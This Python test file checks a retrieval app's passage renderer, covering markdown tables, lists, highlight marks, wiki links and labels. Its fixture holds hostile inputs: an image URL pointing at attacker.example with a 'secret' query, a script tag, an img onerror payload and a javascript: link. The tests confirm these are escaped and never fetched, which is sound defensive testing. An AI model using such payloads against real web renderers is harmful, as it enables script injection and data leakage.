"""Passages as people read them (rag.text.render): pure functions, no app, no model."""

from __future__ import annotations

import html
import re

from rag.text.render import (
    mark_spans,
    passage_html,
    passage_label,
    passage_plain_text,
    passage_terminal_markdown,
)

DOC = """## Diffusion **Models**

- **Key Ideas:** noise is added step by step.
- second item

| Metric | Use |
|---:|---|
| FID | realism of images |

![diagram](https://attacker.example/p.png?q=secret) <script>alert(1)</script> \
<img src=x onerror=alert(2)> [home](javascript:alert(3))
"""


def visible(rendered: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", rendered))


def test_markdown_is_rendered_tables_lists_and_emphasis() -> None:
    out = passage_html(DOC)
    assert "<table>" in out and "<td>realism of images</td>" in out
    assert "<ul>" in out and "<strong>Key Ideas:</strong>" in out
    assert "**" not in out and "|---" not in out and "## " not in out


def test_images_are_never_fetched_and_html_is_text() -> None:
    out = passage_html(DOC)
    assert "<img" not in out and "attacker.example" not in out and "<script" not in out
    assert "[image: diagram]" in out
    assert "<script>alert(1)</script>" in visible(out)
    assert "<img src=x onerror=alert(2)>" in visible(out)
    assert 'href="javascript' not in out


def test_cited_span_is_marked_inside_list_items_and_table_cells() -> None:
    start = DOC.index("noise")
    out = passage_html(
        DOC, [(start, start + len("noise is added")), (DOC.index("FID"), DOC.index("FID") + 3)]
    )
    assert "<li><strong>Key Ideas:</strong> <mark>noise is added</mark> step by step.</li>" in out
    assert '<td style="text-align:right"><mark>FID</mark></td>' in out
    assert "<table>" in out and "<ul>" in out  # the markers did not break the structure


def test_marks_keep_emphasis_nested_and_documents_cannot_forge_them() -> None:
    text = "- **Key Ideas:** noise"
    out = passage_html(text, [(text.index("Key"), len(text))])
    assert "<mark><strong>Key Ideas:</strong> noise</mark>" in out
    assert "<mark>" not in passage_html("a \u2e18b\u2e19 c")
    assert mark_spans("abc", [(5, 9)]) == "abc"
    # A bold sentence ending in a full stop, highlighted whole, keeps its bold: the coverage
    # page showed "**Generative systems will support real-time creative prototyping.**".
    line = "3. **Generative systems will support real-time creative prototyping.**"
    start = line.index("Generative")
    out = passage_html(line, [(start, line.index("prototyping.") + len("prototyping."))])
    assert (
        "<mark><strong>Generative systems will support real-time creative prototyping.</strong></mark>"
        in out
    )
    assert "**" not in out


def test_wiki_links_read_as_their_words_with_the_highlight_in_place() -> None:
    # The bundled notes: "a type of [[Artificial Intelligence]]" showed its brackets.
    text = "**Generative AI** is a type of [[Artificial Intelligence]] that uses [[ML|machine learning]]."
    start = text.index("a type")
    out = passage_html(text, [(start, text.index("Intelligence]]") + len("Intelligence]]"))])
    assert "<mark>a type of Artificial Intelligence</mark> that uses machine learning." in out
    assert "[[" not in out and "]]" not in out
    code = "Write `[[x]]` in Obsidian.\n\n```\n[[kept]]\n```"
    assert "[[x]]" in passage_html(code) and "[[kept]]" in passage_html(code)
    assert passage_terminal_markdown("See [[RAG]] and `[[x]]`.") == "See RAG and `[[x]]`."


def test_label_is_title_then_sections() -> None:
    assert (
        passage_label("Generative AI", "Text Generation > BERT")
        == "Generative AI › Text Generation › BERT"
    )
    assert passage_label("", "Intro", source="notes.md") == "notes.md › Intro"
    assert passage_label("Deck", "Slide 7: GANs", locator="slide 7") == "Deck › Slide 7: GANs"
    assert passage_label("Paper", "", page=3) == "Paper (page 3)"


def test_terminal_and_plain_text_never_point_at_the_image() -> None:
    terminal = passage_terminal_markdown(DOC)
    assert "attacker.example" not in terminal and "[image: diagram]" in terminal
    assert "\\<script>" in terminal  # rich would drop the tag: shown as text instead
    assert "`<b>`" in passage_terminal_markdown("use `<b>` for bold")
    assert "attacker.example" not in passage_plain_text(DOC)


def test_merge_spans_clips_and_merges() -> None:
    from rag.text.render import merge_spans

    assert merge_spans([(5, 9), (-3, 2), (8, 12), (50, 60), (4, 4)], 20) == [(0, 2), (5, 12)]


def test_a_lone_tab_indented_subtitle_is_text_but_an_indented_block_stays_code() -> None:
    # "\tThe creative revolution of machines begins…" (corpus/002) showed as a
    # monospace box running past its border in the app.
    subtitle = passage_html("Intro.\n\n\tThe creative revolution of machines begins.\n\nMore.")
    assert "<code>" not in subtitle and "<p>The creative revolution" in subtitle
    code = passage_html("Code:\n\n\tx = 1\n\ty = 2\n")
    assert "<pre><code>x = 1\ny = 2" in code


def test_a_cited_list_item_wrapped_over_lines_is_marked_on_each_line() -> None:
    text = "1. **Anaphase.** The sister chromatids separate and are pulled\n   to opposite poles.\n"
    start = text.index("The sister")
    out = passage_html(text, [(start, text.index("poles.") + len("poles."))])
    assert "<ol>" in out and visible(out).count("to opposite poles.") == 1
    marked = "".join(re.findall(r"<mark>(.*?)</mark>", out, re.S))
    assert "pulled" in marked and "to opposite poles." in marked


def test_a_sentence_wrapped_by_hand_is_one_highlight() -> None:
    # A helper in the app: the Coverage page's evidence sentence, wrapped over three lines
    # of the notes, showed as three highlights with gaps at the line breaks.
    text = (
        "Fermentation yields only two ATP per glucose, compared with about thirty for\n"
        "aerobic respiration, so organisms that rely on it must process far more\n"
        "sugar. The lactate produced in muscle is carried to the liver.\n"
    )
    end = text.index("sugar.") + len("sugar.")
    html = passage_html(text, [(0, end)])
    assert html.count("<mark>") == 1, html
    assert "far more\nsugar.</mark> The lactate" in html


def test_highlights_in_two_list_items_stay_two() -> None:
    html = passage_html("- Glycolysis splits glucose.\n- Pyruvate is oxidised.\n", [(0, 51)])
    assert html.count("<mark>") == 2
